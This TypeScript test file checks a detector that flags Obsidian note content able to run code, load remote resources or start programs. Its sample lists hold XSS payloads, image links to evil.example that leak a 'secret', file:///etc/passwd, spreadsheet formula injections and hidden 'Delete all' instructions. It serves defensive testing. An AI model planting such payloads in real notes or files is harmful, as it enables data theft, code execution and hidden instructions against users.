import { describe, expect, test } from 'vitest';
import { addedParts, isUncertain, partsOf } from './uncertain-variants';

/** Blocks that plugins execute, text that loads from elsewhere, and links that start programs. */
const RUNS: readonly string[] = [
  '| a | b |\n| --- | --- |\n| `a | %%` | b |',
  '`a | %%`\n:-- | :-',
  '`` `= dv.x` ``',
  '`` ` ``= dv.x` `',
  '`` ``` `` = 1 `a` ` b`',
  '`` <img src=x> ``',
  '`a``b <img src=x> `` c`',
  '``` `<img src=x>` ```',
  '```js`x` ```',
  'Open ``a` <img src=x> `b',
  '```dataviewjs\ndv.view("x")\n```',
  '> - ```dataviewjs\n>   x\n>   ```',
  '   ~~~~DataviewJS\nx\n~~~~',
  '```js-engine\nx\n```',
  '```run-python\nx\n```',
  '```datacorejsx\nx\n```',
  '```button\nname x\naction obs\n```',
  '```tasks\nfilter by function true\n```',
  '```{python}\nx\n```',
  '```unheard-of\nx\n```',
  '```mermaid\ngraph TD\nA@{ img: "https://evil.example/x.png" }\n```',
  '```mermaid\ngraph TD\n    ```\nclick A call evil()\n```',
  'Today is `$= dv.date("now")`.',
  'Press `BUTTON[go]`.',
  '<% tp.system.prompt("x") %>',
  '<%* await tp.user.evil() -%>',
  'Unclosed <% tp.x',
  '<iframe src="https://evil.example"></iframe>',
  '<IFRAME\nSRC=//evil.example>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img alt=">" src="https://evil.example/x.png">',
  "<a '<img src=//evil.example/x>",
  '<div style="background: url(https://evil.example/x.png)">x</div>',
  '<svg><image xlink:href="https://evil.example/x"/></svg>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<svg><filter><feImage href=//evil.example/x /></filter></svg>',
  '<video poster="https://evil.example/x"></video>',
  '<object data="x"></object>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(//evil.example/x.css)</style>',
  '<a href="obsidian://open?vault=x">here</a>',
  '<a href="&#111;bsidian://open">here</a>',
  '![](https://evil.example/x.png?d=secret)',
  '![words](//evil.example/x.png)',
  '![words](\\\\evil\\share\\x.png)',
  '![words](h&#116;tps://evil.example/x.png)',
  '![words](https\\://evil.example/x.png)',
  '![words](<https://evil.example/x y.png>)',
  '![a [b] c](https://evil.example/x.png)',
  '![[b] c](https://evil.example/x.png)',
  '![`]`](https://evil.example/x.png)',
  '![words](\nhttps://evil.example/x.png)',
  '![words](< //evil.example/x.png>)',
  '![words](\u0001//evil.example/x.png)',
  '![[Note]](https://evil.example/x.png)',
  '![[Note#Part|words]](//evil.example/x.png)',
  '![[Note]][ref]\n\n[ref]: https://evil.example/x.png',
  '$\\phantom{\\text{Delete all}}$',
  '$\\color{white}\\text{Delete all}$',
  '[//]: # (Delete all)',
  '> [x]: <> "Delete all"',
  '---\nbanner: "h\\tttps:evil.example/x"\n---\n',
  '---\nbanner: "/\\t/evil.example/x"\n---\n',
  '---\ndg-publish: true\n---\n',
  '![words][ref]\n\nText.\n\n[ref]: https://evil.example/x.png',
  '![ref]\n\n[ref]: <//evil.example/x.png>',
  '![x][a\\]b]\n\n[a\\]b]: https://evil.example/x.png',
  '![x][a\nb]\n\n[a\nb]:\nhttps://evil.example/x.png',
  '```plantuml\nA -> B\n```',
  '![x](file:///etc/passwd)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '---\nbanner: "https://evil.example/x"\n---\n',
  'Sum: $\\style{background: url(https://evil.example/x)}{x}$',
  '$$\n\\href{javascript:alert(1)}{x}\n$$',
  '[^1]: ```dataviewjs\n    x\n',
  '---\ntitle: A\nbanner: >-\n  https://evil.example/x\n---\n',
  '---\ncover:\n  - https://evil.example/x\n---\n',
  '---\n{banner: "https://evil.example/x"}\n---\n',
  '---\npreview: https://evil.example/x.png\n---\n',
  '[click](obsidian://advanced-uri?commandid=x)',
  'See obsidian://open?vault=x for more.',
  '<obsidian://open?vault=x>',
  '[click](javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vscode://x)',
  '[click][ref]\n\n[ref]: shortcuts://run?name=x',
];

/** Text that people write every day. */
const RESTS: readonly string[] = [
  '> Such a name may not work: `# | ^ : %% [[ ]]`.',
  'Between `a | b` and `c | %% d`, more.\n\nText.',
  'Words such as `**bold**` or `` `code` `` are no Markdown within `<div>` and `<span>`.',
  '| Signs | Links |\n| --- | --- |\n| `==Text==` | [[A\\|B]] |\n| `` ``` `` | [[C]] |\n| `%%Text%%` | x |',
  'A long mark ```a `b` c``` in words.',
  '',
  '# Title\n\nWords, *more* words and [[a link]].\n',
  '```js\nconsole.log("x")\n```',
  '```\nno language\n```',
  '> [!note] Callout\n> text',
  '![[photo.png]] and [a site](https://example.org)',
  '![[photo.png]] (by me), [part](#Part "Part") and [home](/Home.md)\n\n[1]: https://example.org "Site"',
  '---\npublished: 2026-11-27\ndescription: "Two\\nlines"\n---\n',
  '![photo](Media/photo%20one.png "A title: here") and [a site](https://example.org)',
  '[a site](https://example.org/?a=1&amp;b=2) <https://example.org> https://example.org/x.png',
  '[mail](mailto:a@example.org?subject=b&body=c) or [call](tel:+1-555-0100)',
  '[a note](Folder/Note.md#Part: two)',
  'A word[^1].\n\n[^1]: See: the book.',
  '<u>under</u><br>H<sub>2</sub>O <details><summary>More</summary>x</details>',
  '---\ncover: Media/photo.png\nsource:\n  - https://example.org/page\n---\n\nText.\n',
  'With $\\textstyle x$ and $\\frac{1}{2}$ it is $5.',
  '---\ntitle: A\nsource_url: https://example.org/page\n---\n\nText.\n',
  '---\ntitle: ISCardManage::Detach\nid: M:Some.Method\n---\n\nText.\n',
  'Costs 5 % of <5%',
  'a < b, x <= y, <3',
  'Use `List<Object>` here.',
  'Use `code`, `==` and `npm run x -- --y`.',
  '1. Write:\n\n   ```html\n   <img src="https://example.org/x.png">\n   ```\n\n2. Done',
  '> [!note] T\n> ```html\n> <b class="x">a</b>\n> ```',
  '---\ndescription: "Part: two, it\'s [[Note|here]]"\nrating: -4.5\ndate: 2026-11-27T10:00\naliases: [a, "b c"]\ncssclasses:\n  - wide\n---\n',
  '| a | b |\n| --- | --- |\n| `<b>` | [[N\\|x]] |',
  '$\\frac{a}{b} \\le \\sum_{i=1}^{n} x_i$ and $$\\begin{aligned} x &= y \\\\ z \\end{aligned}$$',
  '- [ ] Buy `$5` of milk',
];

describe('a text', () => {
  test.each(RUNS)('%j is uncertain', (text) => {
    expect(isUncertain(text)).toBe(true);
    expect(isUncertain(`# Before\n\n${text}\n\nAfter.\n`.replace(/^# Before\n\n(---)/, '$1'))).toBe(
      true,
    );
  });

  test.each(RESTS)('%j is certain', (text) => {
    expect(partsOf('Note.md', text)).toEqual([]);
  });

  test('a heading directly above a block is no part of it', () => {
    const block = '\n```dataview\nLIST\n```\n';
    expect(addedParts('Note.md', `# One${block}`, `# Two${block}`)).toEqual([]);
    expect(addedParts('Note.md', `One${block}`, `Two${block}`)).not.toEqual([]);
  });

  test('what is uncertain depends on the kind of file', () => {
    expect(isUncertain('alert(1)', 'Scripts/x.js')).toBe(true);
    expect(isUncertain('p{}', 'x.CSS')).toBe(true);
    expect(isUncertain('calc', 'Tools/start.bat')).toBe(true);
    expect(isUncertain('[InternetShortcut]', 'Tools/page.url')).toBe(true);
    for (const row of ['a,b', '-5,+1.5;-2', '"a - b",a@b.org', 'x = y']) {
      expect(isUncertain(row, 'Tools/list.csv')).toBe(false);
    }
    for (const row of [
      '=A1',
      'a, =A1',
      '"=A1"',
      'a\t@SUM(1)',
      '-2+cmd|x!A1',
      'a;＝A1',
      'sep=|',
      '\uFEFF=A1',
      '\uFEFFsep=|',
      'a\r=A1',
    ]) {
      expect(isUncertain(row, 'Tools/list.TSV')).toBe(true);
    }
    const page = { nodes: [{ type: 'link', url: 'https://evil.example' }] };
    expect(isUncertain(JSON.stringify(page), 'Board.canvas')).toBe(true);
    const card = { nodes: [{ type: 'text', text: '![](https://evil.example/x)' }] };
    expect(isUncertain(JSON.stringify(card).replace('https', '\\u0068ttps'), 'Board.canvas')).toBe(
      true,
    );
    const plain = {
      nodes: [
        { type: 'text', text: 'Beans' },
        { type: 'file', file: 'A.md' },
      ],
    };
    expect(isUncertain(JSON.stringify(plain), 'Board.canvas')).toBe(false);
    expect(isUncertain('formulas:\n  x: image("https://evil.example")\n', 'All.base')).toBe(true);
  });
});

/** Texts of 20,000 characters and more that a backtracking pattern would not get through. */
const LONG: readonly [string, string][] = [
  ['callout marks', `${'[!]'.repeat(7_000)}x\`\`\`y`],
  ['tildes before a backtick', `${'~'.repeat(20_000)}\``],
  ['blanks below a table', `a \`b\` | c\n${' '.repeat(100_000)}x`],
];
test.each(LONG)('a note with a long run of %s is checked to its end', (_what, text) => {
  expect(isUncertain(`${text}\n\n<iframe src="https://evil.example"></iframe>`)).toBe(true);
});

test.each(['type', 'name', 'displayName', 'order'])(
  'a formula of a base named %s is checked like any other',
  (name) => {
    expect(isUncertain(`formulas:\n  ${name}: image("https://evil.example")\n`, 'All.base')).toBe(
      true,
    );
  },
);

describe('what a change adds', () => {
  const added = (before: string, after: string) =>
    addedParts('Note.md', before, after).map(({ text }) => text);

  test('moved text is not new', () => {
    const block = '```dataviewjs\none\n```';
    expect(added(`${block}\n\nText.\n`, `Text, longer.\n\n${block}\n`)).toEqual([]);
  });

  test('a second copy of text that runs or loads is new', () => {
    expect(added('<% one %>\n', '<% one %>\n\n<% one %>\n')).toEqual(['<% one %>']);
  });

  test('a changed word is new', () => {
    expect(added('```dataviewjs\none\n```', '```dataviewjs\ntwo\n```')).toEqual([
      '```dataviewjs\ntwo\n```',
    ]);
  });

  test('an opening that wakes existing text is new', () => {
    expect(added('one\n```', '```dataviewjs\none\n```')).toHaveLength(1);
  });

  test.each([
    ['````\n```dataviewjs\nx\n```\n````\n', '```dataviewjs\nx\n```\n'],
    ['- ~~~md\n  ```dataviewjs\n  x\n  ```\n  ~~~\n', '- y\n  ```dataviewjs\n  x\n  ```\n'],
    ['```html\r\n<iframe src="x">\r\n```\r\n', '<iframe src="x">\r\n'],
    ['Write `<iframe src="x">`.', 'Write <iframe src="x">.'],
    ['Text.\n\n    <iframe src="x">\n', 'Text.\n\n<iframe src="x">\n'],
    ['%%\n```dataviewjs\nx\n```\n%%\n', '```dataviewjs\nx\n```\n'],
    ['<!-- ![](https://evil.example/x) -->', '![](https://evil.example/x)'],
    ['\\![](https://evil.example/x)', '![](https://evil.example/x)'],
  ])('text that wakes is new: %j', (before, after) => {
    expect(added(before, after)).toHaveLength(1);
    expect(added(before, `New.\n\n${before}`)).toEqual([]);
    expect(added(after, `New.\n\n${after}`)).toEqual([]);
  });

  test('code below a comment in a paragraph is no code if a backtick above the comment is open', () => {
    const before = 'a ` %%x%%\n';
    expect(added(before, `${before}\` <img src=x>\`\n`)).not.toEqual([]);
  });

  test('a style that begins below a comment in its line is one text to its end', () => {
    const note = (color: string) => `%%a%% <style>\n\np { color: ${color} }\n\n</style>\n`;
    expect(added(note('red'), note('blue'))).not.toEqual([]);
  });

  test('the URL of an image that was referenced by name is new', () => {
    const [image, url] = ['![x][ref]\n\n', '[ref]: https://evil.example/x.png'];
    expect(added(image, image + url)).toEqual([url]);
    expect(added(url, image + url)).toContain(url);
  });
});
